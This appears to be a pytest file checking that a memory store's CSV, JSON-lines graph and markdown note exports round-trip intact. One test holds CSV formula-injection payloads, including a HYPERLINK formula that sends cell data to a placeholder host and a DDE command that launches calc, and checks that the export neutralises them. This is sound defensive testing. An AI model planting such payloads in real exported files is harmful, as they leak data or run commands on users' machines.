"""Exports for other programs: what they hold, worked out by hand, and the way back."""

import csv
import io
import json
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from hypothesis import given
from hypothesis import strategies as st

from access.models import Group
from access.tokens import operator
from memories.draft import Draft
from memories.entities.store_relation import RelationDraft, store_relation
from memories.lifecycle.verbs import retract
from memories.models import Memory
from memories.store import store
from sources.importing import choose_importer
from sources.importing.formats.notes.front_matter import plain, quote
from sources.importing.formats.notes.locus import without_title
from sources.importing.importer import LineRules
from sources.sharing import NAMES, export_as
from sources.sharing.notes import with_title

pytestmark = pytest.mark.django_db
MAY = datetime(2026, 5, 1, 10, 30, tzinfo=UTC)


def fill() -> None:
    """Memories with everything that a format could lose, and some that no export may have."""
    actor = operator()
    drafts = [
        Draft("Anna", type="entity", tags=("person",)),
        Draft("Anna: leads the payments team", tags=("team",), valid_from=MAY),
        Draft("The port is 8081, \"not\" 80; see notes.", tags=("on call", "no"), importance=8, valid_from=MAY),
        Draft("# Backup\n\nRun make backup.\n---\nThen check.", type="procedural"),
        Draft("User: Hello, Ben\nhow are you?", type="episodic", thread="monday: early", metadata={"speaker": "User"},
              source="chatgpt", source_ref="m1", valid_from=MAY),
    ]  # fmt: skip
    for draft in drafts:
        store(actor, replace(draft, group="ledger", scope="group"))
    store(actor, Draft("Roses need sun.", group="garden", scope="group"))
    store_relation(actor, RelationDraft("Anna", "maintains", "Ledger service", group="ledger"))
    wrong = store(actor, Draft("A retracted text.", group="ledger", scope="group"))
    assert wrong.memory is not None
    retract(actor, wrong.memory.id, reason="wrong")
    Group.objects.filter(slug="ledger").update(instructions="Be brief.")


def bytes_of(path: Path) -> dict[str, bytes]:
    """The bytes of an exported file, or of the files in a folder, by name."""
    if path.is_file():
        return {"": path.read_bytes()}
    return {str(file.relative_to(path)): file.read_bytes() for file in path.rglob("*") if file.is_file()}


@pytest.mark.parametrize("name", NAMES)
def test_export_import_export_is_the_same(name: str, tmp_path: Path) -> None:
    fill()
    first, second = tmp_path / "first" / "shared.out", tmp_path / "second" / "shared.out"
    for path in (first, second):
        path.parent.mkdir()
    ending = {"csv": ".csv", "mcp-memory": ".jsonl"}.get(name, "")
    first, second = first.with_suffix(ending), second.with_suffix(ending)
    export_as(operator(), name, first)
    if name == "locus":
        # Rooms have the day of their group, and instructions are not imported.
        for about in first.rglob(".room.json"):
            about.unlink()
        for about in first.rglob("CLAUDE.md"):
            about.unlink()
    contents = set(Memory.objects.filter(state="live").values_list("content", flat=True))
    Memory.objects.all().update(source="gone", source_ref="", state="forgotten")
    importer = choose_importer(first)
    assert importer.name == name
    group = "ledger" if name == "mcp-memory" else ""
    report = importer.run(operator(), first, LineRules(importer.source_of(first), group))
    assert report.faults == ()
    if name != "mcp-memory":  # there, a text without an entity belongs to its group
        assert set(Memory.objects.filter(state="live").values_list("content", flat=True)) == contents
    export_as(operator(), name, second)
    if name == "locus":
        for about in (*second.rglob(".room.json"), *second.rglob("CLAUDE.md")):
            about.unlink()
    assert bytes_of(second) == bytes_of(first)


def test_csv_has_a_row_per_memory(tmp_path: Path) -> None:
    fill()
    export_as(operator(), "csv", tmp_path / "a.csv", groups=["ledger"])
    rows = list(csv.DictReader(io.StringIO((tmp_path / "a.csv").read_text())))
    assert [row["text"] for row in rows] == [
        "Anna",
        "Anna: leads the payments team",
        'The port is 8081, "not" 80; see notes.',
        "# Backup\n\nRun make backup.\n---\nThen check.",
        "User: Hello, Ben\nhow are you?",
        "Ledger service",
    ]
    port, turn = rows[2], rows[4]
    assert (port["tags"], port["timestamp"], port["importance"]) == (
        "on call;no",
        "2026-05-01T10:30:00+00:00",
        "8",
    )
    assert (turn["author"], turn["thread"], turn["group"]) == ("User", "monday: early", "ledger")


FORMULAS = (
    '=HYPERLINK("http://x"&A1)',
    "+1",
    "-cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\uff1dA1",
    "\uff20SUM(A1)",
    "\ufe62x",
)


def test_csv_has_no_formula_and_comes_back_as_it_was(tmp_path: Path) -> None:
    texts = [f"{text} of quay {number}" for number, text in enumerate(FORMULAS)]
    for text in texts:
        store(operator(), Draft(text, group="ledger", tags=(text.split()[0],)))
    export_as(operator(), "csv", tmp_path / "a.csv", groups=["ledger"])
    rows = list(csv.DictReader(io.StringIO((tmp_path / "a.csv").read_text())))
    assert [row["text"] for row in rows] == [f"'{text}" for text in texts]
    assert all(row["tags"].startswith("'") for row in rows)
    Memory.objects.all().update(source="gone", source_ref="", state="forgotten")
    importer = choose_importer(tmp_path / "a.csv")
    importer.run(operator(), tmp_path / "a.csv", LineRules("a", ""))
    live = Memory.objects.filter(state="live").order_by("key").values_list("content", flat=True)
    assert list(live) == texts


def test_the_graph_has_entities_observations_and_relations(tmp_path: Path) -> None:
    fill()
    export_as(operator(), "mcp-memory", tmp_path / "memory.jsonl", groups=["ledger", "garden"])
    lines = [json.loads(line) for line in (tmp_path / "memory.jsonl").read_text().splitlines()]
    entities = {line["name"]: line for line in lines if line["type"] == "entity"}
    assert entities["Anna"] == {
        "type": "entity", "name": "Anna", "entityType": "person", "observations": ["leads the payments team"],
    }  # fmt: skip
    assert entities["garden"]["observations"] == ["Roses need sun."]
    assert lines[-1] == {
        "type": "relation",
        "from": "Anna",
        "to": "Ledger service",
        "relationType": "maintains",
    }


def test_a_note_has_front_matter_and_a_title(tmp_path: Path) -> None:
    fill()
    export_as(operator(), "locus", tmp_path / "out", groups=["ledger"])
    room = tmp_path / "out" / "rooms" / "ledger"
    assert (room / "loci" / "locus-20260501-the-port-is-8081-not-80-see-notes.locus").read_text() == (
        "---\nid: locus-20260501-the-port-is-8081-not-80-see-notes\ncreated: 2026-05-01T10:30:00+00:00\nroom: ledger\n"
        "type: semantic\ntags: [on call, no]\nimportance: 8\n---\n"
        '# The port is 8081, "not" 80; see notes.\n\nThe port is 8081, "not" 80; see notes.\n'
    )
    assert json.loads((room / ".room.json").read_text())["name"] == "ledger"
    assert (room / "CLAUDE.md").read_text() == "Be brief.\n"
    assert (room / "loci").stat().st_mode & 0o777 == 0o700
    notes = "".join(file.read_text() for file in (room / "loci").iterdir())
    assert 'origin: "chatgpt#m1"' in notes
    assert "retracted" not in notes


def test_nothing_is_written_over_unless_asked(tmp_path: Path) -> None:
    fill()
    (tmp_path / "vault").mkdir()
    (tmp_path / "vault" / "mine.md").write_text("Mine.")
    with pytest.raises(CommandError, match="already exists"):
        call_command("export", str(tmp_path / "vault"), "--to", "markdown")
    call_command("export", str(tmp_path / "vault"), "--to", "markdown", "--overwrite")
    assert (tmp_path / "vault" / "mine.md").read_text() == "Mine."
    with pytest.raises(CommandError, match="No file or folder is named"):
        call_command("export", "--to", "csv")


@given(st.text(st.sampled_from("ab #\n-`\"'\\:[]"), min_size=1))
def test_any_text_survives_its_title(text: str) -> None:
    content = text.strip()
    assert without_title(with_title(content)) == content


@given(st.text(st.characters(exclude_categories=("Cs", "Cc"))))
def test_any_line_survives_front_matter(text: str) -> None:
    line = " ".join(text.split())
    assert plain(quote(line)) == line
